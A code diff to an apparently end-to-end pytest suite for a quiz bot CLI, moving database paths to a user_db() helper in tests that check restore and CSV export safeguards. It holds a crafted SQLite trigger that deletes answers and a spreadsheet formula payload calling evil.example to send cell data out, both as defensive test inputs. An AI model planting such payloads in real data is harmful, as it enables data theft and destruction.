@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.conftest import user_db
 from tests.e2e.test_ops_cli import played, quizbot
 
 __all__ = ["played"]  # the fixture
@@ -34,7 +35,7 @@ def test_a_backup_carrying_a_trigger_is_refused_and_nothing_is_written(played: P
     crafted.execute("CREATE TRIGGER wipe AFTER INSERT ON sessions BEGIN DELETE FROM answers; END")
     crafted.commit()
     crafted.close()
-    live = played / "data" / "quizbot.db"
+    live = user_db()
     before = digest(live)
 
     done = quizbot(played, "restore", "b.db", "--force")
@@ -77,7 +78,7 @@ def test_a_foreign_file_with_schema_migrations_is_refused_on_a_fresh_path(
     done = quizbot(tmp_path, "restore", "theirs.db")
     assert done.returncode == 1 and "migrations quizbot never had" in done.stderr
     assert "Traceback" not in done.stderr
-    assert not (tmp_path / "data" / "quizbot.db").exists()  # nothing written, not even a lock
+    assert not user_db().exists()  # nothing written, not even a lock
 
     shutil.copy(tmp_path / "theirs.db", tmp_path / "data.db")
     (tmp_path / "c.yaml").write_text("storage:\n  url: sqlite:///data.db\n")
@@ -87,7 +88,7 @@ def test_a_foreign_file_with_schema_migrations_is_refused_on_a_fresh_path(
 
 
 def test_restore_replaces_the_database_in_one_rename(played: Path) -> None:
-    live = played / "data" / "quizbot.db"
+    live = user_db()
     assert quizbot(played, "backup", "b.db").returncode == 0
     assert quizbot(played, "play", "--user", "cat", stdin="a\n").returncode == 0
     done = quizbot(played, "restore", "b.db", "--force")
@@ -147,7 +148,7 @@ def test_export_output_refuses_existing_files_and_symlinks(played: Path,
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")',
                                   "+1+2", "-2+3", "@SUM(1,1)", "\tTab", "\rReturn"])
 def test_csv_export_defuses_formula_shaped_names(played: Path, name: str) -> None:
-    db = sqlite3.connect(played / "data" / "quizbot.db")
+    db = sqlite3.connect(user_db())
     db.execute("UPDATE users SET display_name = ? WHERE user_id = 'ana'", (name,))
     db.commit()
     db.close()
@@ -167,12 +168,12 @@ def test_run_and_play_refuse_a_crafted_database_copied_into_place(played: Path) 
     crafted.execute("CREATE TRIGGER wipe AFTER INSERT ON sessions BEGIN DELETE FROM answers; END")
     crafted.commit()
     crafted.close()
-    live = played / "data" / "quizbot.db"
+    live = user_db()
     for side in ("-wal", "-shm"):
         Path(f"{live}{side}").unlink(missing_ok=True)
     shutil.copyfile(played / "b.db", live)
     before = digest(live)
-    (played / "run.yaml").write_text("storage:\n  url: sqlite:///data/quizbot.db\n"
+    (played / "run.yaml").write_text(f"storage:\n  url: sqlite:///{user_db()}\n"
                                      "telegram:\n  api_base_url: http://127.0.0.1:9/bot\n"
                                      "startup_timeout: 1\n")
     check = quizbot(played, "check", "--config", "run.yaml")
